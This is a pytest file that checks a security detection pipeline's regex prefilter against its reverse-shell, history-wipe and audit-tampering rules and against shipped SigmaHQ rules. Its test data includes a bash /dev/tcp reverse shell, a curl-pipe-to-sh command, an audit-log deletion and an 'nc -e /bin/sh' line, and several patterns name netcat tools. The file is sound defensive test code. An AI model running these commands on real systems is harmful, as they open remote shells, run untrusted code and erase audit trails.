"""The regex prefilter (detections/literals.py) never hides a match: every text a pattern
matches holds one of the literals it derives. Property-style: texts are generated from
each pattern's own parse tree (the built-in rules' patterns and every ``re`` value of the
shipped SigmaHQ rules), kept when the regex really matches them, and checked."""

from __future__ import annotations

import os
import random
import re
from re import _constants as C
from re import _parser as P

import pytest

from agent.pipeline.detections import literals
from agent.pipeline.detections.literals import Gated, required
from agent.pipeline.detections.rules import activity, tamper

SHIPPED = os.path.join(os.path.dirname(__file__), "..", "..", "rules", "sigma")
POOL = "aZ0 -/._=\"'|;&>\t\nxsSkKiIé日ſKıİΣσς"
_CAT = {C.CATEGORY_DIGIT: "7", C.CATEGORY_SPACE: " ", C.CATEGORY_WORD: "w", C.CATEGORY_NOT_DIGIT: "x",
        C.CATEGORY_NOT_SPACE: "x", C.CATEGORY_NOT_WORD: "-"}


def _sample(items, rnd: random.Random) -> str:
    out = []
    for op, av in items:
        if op is C.LITERAL:
            out.append(chr(av))
        elif op in (C.NOT_LITERAL, C.ANY):
            out.append(rnd.choice(POOL))
        elif op is C.IN:
            choices = []
            for o, v in av:
                if o is C.LITERAL:
                    choices.append(chr(v))
                elif o is C.RANGE:
                    choices.append(chr(rnd.randint(v[0], min(v[1], v[0] + 60))))
                elif o is C.CATEGORY:
                    choices.append(_CAT.get(v, "x"))
            out.append(rnd.choice(choices) if choices and av[0][0] is not C.NEGATE else rnd.choice(POOL))
        elif op is C.BRANCH:
            out.append(_sample(rnd.choice(av[1]), rnd))
        elif op is C.SUBPATTERN:
            out.append(_sample(av[3], rnd))
        elif op is C.ATOMIC_GROUP:
            out.append(_sample(av, rnd))
        elif op in (C.MAX_REPEAT, C.MIN_REPEAT, C.POSSESSIVE_REPEAT):
            lo, hi, sub = av
            out += [_sample(sub, rnd) for _ in range(rnd.randint(lo, min(hi, lo + 3)))]
    return "".join(out)


def _variants(text: str, rnd: random.Random) -> list:
    # Case changes and the letters that fold to ASCII only under IGNORECASE (ſ, K, ı, İ).
    odd = text.replace("s", "ſ").replace("k", "K").replace("i", "ı")
    return [text, text.swapcase(), odd, rnd.choice(POOL) * 3 + text + " tail", text.upper()]


def _check(pattern: str, flags: int, n: int = 300) -> int:
    """Generate texts the pattern matches; each must hold a derived literal. Returns how many matched."""
    rx = re.compile(pattern, flags)
    raw, low = required(pattern, flags), required(pattern, flags, lower=True)
    tree = list(P.parse(pattern, flags))
    rnd = random.Random(pattern)
    matched = 0
    for _ in range(n):
        for text in _variants(_sample(tree, rnd), rnd):
            if rx.search(text) is None:
                continue
            matched += 1
            assert raw is None or any(lit in text for lit in raw), (pattern, text, raw)
            assert low is None or any(lit in text.lower() for lit in low), (pattern, text, low)
    return matched


BUILTIN = [g for mod in (activity, tamper) for g in list(vars(mod).values()) +
           [getattr(c, "patterns", None) for c in vars(mod).values() if isinstance(c, type)]
           if isinstance(g, Gated)]


def test_builtin_patterns_have_literals_and_every_generated_match_holds_one():
    assert {g.pattern for g in BUILTIN} >= {activity.HistoryWipe.patterns.pattern,
                                            activity.ReverseShell.patterns.pattern, tamper._AUDIT_LOG.pattern}
    for g in BUILTIN:
        if g.pattern == r"(?!x)x":
            continue
        assert g.literals, f"no prefilter for {g.pattern}"
        assert _check(g.pattern, g.rx.flags) > 50, g.pattern


TRICKY = [
    ("(?i)socket", 0), ("[Ss]ocket|TCP", 0), ("a(?:b|c)?d", 0), ("x{2,3}y", 0), ("(?:ab)+c", 0),
    (r"\bnc\b.*-e", 0), ("AB(?i:cd)", 0), ("(?-i:AB)cd", re.I), (r"-(W|R)\s?([0-9a-f]{2}){2,4}", 0),
    (r"(?:^|[\s=])/etc/audit\b", 0), ("Σ+x", 0), ("(?i)kill", 0), ("s[tT]race", re.I), (r"(\w+)\1", 0),
    ("(?=abc)abcd", 0), ("(?:)x|y", 0), ("", 0), ("a*", 0), (r"\d+", 0),
]


@pytest.mark.parametrize("pattern,flags", TRICKY)
def test_tricky_patterns_never_lose_a_match(pattern, flags):
    _check(pattern, flags)


def test_what_the_analysis_finds():
    assert required("(?i)socket", lower=True) == {"oc"}  # s and k fold to ſ and K: not used
    assert required("(?i)socket") is None  # case-insensitive: no literal as written
    assert required("x(?:ab)?y") == {"xy", "xaby"}
    assert required(r"/dev/(?:tcp|udp)/\d+") == {"/dev/tcp/", "/dev/udp/"}
    assert required(r"\b(?:nc|ncat|netcat)\b") == {"nc", "netcat"}  # "ncat" holds "nc"
    assert required(r"\d+|abc") is None and required(".*") is None and required("(") is None
    assert required("Σx", lower=True) == {"x"}  # lower() of non-ASCII is not per character


def test_gated_search_answers_as_the_regex_does():
    rnd = random.Random(7)
    for g in BUILTIN:
        texts = ["ls -la /tmp", "", "history -c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                 "curl http://x/y.sh | sh", "rm -f /var/log/audit/audit.log", "nc -e /bin/sh 1.2.3.4 80"]
        texts += ["".join(rnd.choice(POOL) for _ in range(rnd.randint(0, 40))) for _ in range(200)]
        for t in texts:
            a, b = g.search(t), g.rx.search(t)
            assert (a and a.span()) == (b and b.span()), (g.pattern, t)


def test_sigmahq_re_values_never_lose_a_match():
    from agent.pipeline.detections.sigma.ruleset import _walk, compile_files

    files, _ = _walk([SHIPPED])
    found = []

    def walk(form):
        if form[0] in ("and", "or"):
            for a in form[1]:
                walk(a)
        elif form[0] == "not":
            walk(form[1])
        elif form[0] in ("field", "kw"):
            test = form[2] if form[0] == "field" else form[1]
            if test[0] == "re":
                found.append((test[1], test[2]))
    for answer in compile_files(files):
        for rule in answer["rules"]:
            walk(rule["cond"])
    assert len(found) >= 5, "the shipped set has re values"
    for pattern, flags in found:
        _check(pattern, flags)


def test_no_prefilter_without_the_parser(monkeypatch):
    monkeypatch.setattr(literals, "P", None)
    g = Gated(re.compile("abc"))
    assert g.literals is None and g.search("xabc") and not g.search("xyz")
